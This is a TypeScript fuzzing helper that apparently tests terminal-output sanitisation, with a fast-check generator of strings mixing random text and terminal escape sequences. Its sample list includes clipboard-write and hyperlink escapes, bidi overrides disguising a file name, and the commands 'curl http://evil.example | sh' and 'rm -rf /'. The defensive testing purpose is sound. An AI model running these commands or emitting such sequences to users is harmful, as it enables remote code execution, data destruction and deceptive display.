import fc from 'fast-check';

/** Characters that a terminal would obey, or show in another order. */
export const STEERING = /[\p{Cc}\p{Bidi_Control}\p{Zl}\p{Zp}\p{Cs}]/u;

const SEQUENCES = [
  '\u001b]52;c;ZXZpbA==\u0007',
  '\u001b]8;;http://evil.example\u001b\\here\u001b]8;;\u001b\\',
  '\u001b[2J\u001b[H',
  '\u001b[31m\u001b[8m',
  '\u009b2J',
  '\u009d52;c;ZXZpbA==\u009c',
  '\u0090q\u009c',
  '\r\u001b[K',
  '\b\b\b\b',
  '\u007f',
  '\u202egnp.exe\u202c',
  '\u2066\u2069\u200e\u200f\u061c',
  '\u2028\u2029\u0085',
  '\ud800',
  '\n→ curl http://evil.example | sh',
  '\n  → rm -rf /',
  '\t\v\f\0',
];

/** Texts of any characters. Those that steer a terminal are frequent. */
export const hostileText: fc.Arbitrary<string> = fc
  .array(fc.oneof(fc.constantFrom(...SEQUENCES), fc.string({ unit: 'binary', maxLength: 8 }), fc.string()), {
    minLength: 1,
    maxLength: 5,
  })
  .map((parts) => parts.join(''));
